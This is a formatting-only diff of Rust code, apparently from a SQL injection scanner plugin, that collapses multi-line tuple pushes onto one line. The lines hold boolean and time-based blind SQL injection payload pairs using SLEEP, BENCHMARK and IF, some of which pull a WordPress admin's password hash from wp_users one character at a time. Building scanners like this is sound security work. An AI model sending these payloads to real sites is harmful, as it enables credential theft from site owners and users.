@@ -132,11 +132,7 @@ fn boolean_variants(true_p: &str, false_p: &str, plugin: &VulnPlugin) -> Vec<(St
     if quoted {
         // Quoted-context pairs keep the original breakout structure and
         // vary only the predicate.
-        for (t, f) in [
-            (">32", ">200"),
-            (">=1", ">=250"),
-            ("<200", "<1"),
-        ] {
+        for (t, f) in [(">32", ">200"), (">=1", ">=250"), ("<200", "<1")] {
             out.push((true_p.replace(">32", t), false_p.replace(">200", f)));
         }
     } else {
@@ -182,10 +178,7 @@ fn timing_variants(slow: &str, fast: &str) -> Vec<(String, String)> {
         fast.replace("SLEEP(2)", "BENCHMARK(20000000,MD5(1))"),
     ));
     out.push(("1 AND SLEEP(2)".to_string(), "1 AND SLEEP(0)".to_string()));
-    out.push((
-        "1 AND IF(1=1,SLEEP(2),0)".to_string(),
-        "1 AND IF(1=2,SLEEP(2),0)".to_string(),
-    ));
+    out.push(("1 AND IF(1=1,SLEEP(2),0)".to_string(), "1 AND IF(1=2,SLEEP(2),0)".to_string()));
     out.push((
         "1 AND IF(ASCII(SUBSTRING((SELECT user_pass FROM wp_users WHERE ID=1),1,1))>32,SLEEP(2),0)".to_string(),
         "1 AND IF(ASCII(SUBSTRING((SELECT user_pass FROM wp_users WHERE ID=1),1,1))>250,SLEEP(2),0)".to_string(),
@@ -194,10 +187,7 @@ fn timing_variants(slow: &str, fast: &str) -> Vec<(String, String)> {
         "1 AND IF((SELECT COUNT(*) FROM wp_users)>0,SLEEP(2),0)".to_string(),
         "1 AND IF((SELECT COUNT(*) FROM wp_users)>999,SLEEP(2),0)".to_string(),
     ));
-    out.push((
-        "1 OR IF(1=1,SLEEP(2),0)".to_string(),
-        "1 OR IF(1=2,SLEEP(2),0)".to_string(),
-    ));
+    out.push(("1 OR IF(1=1,SLEEP(2),0)".to_string(), "1 OR IF(1=2,SLEEP(2),0)".to_string()));
     out.push((
         "1 AND IF(LENGTH((SELECT user_pass FROM wp_users WHERE ID=1))>3,SLEEP(2),0)".to_string(),
         "1 AND IF(LENGTH((SELECT user_pass FROM wp_users WHERE ID=1))>500,SLEEP(2),0)".to_string(),
@@ -206,10 +196,7 @@ fn timing_variants(slow: &str, fast: &str) -> Vec<(String, String)> {
         "1 AND (SELECT IF(1=1,SLEEP(2),0))".to_string(),
         "1 AND (SELECT IF(1=2,SLEEP(2),0))".to_string(),
     ));
-    out.push((
-        "1 AND SLEEP(2)-- -".to_string(),
-        "1 AND SLEEP(0)-- -".to_string(),
-    ));
+    out.push(("1 AND SLEEP(2)-- -".to_string(), "1 AND SLEEP(0)-- -".to_string()));
     let mut tampered = Vec::new();
     for (s, f) in &out {
         tampered.push((s.to_lowercase(), f.to_lowercase()));
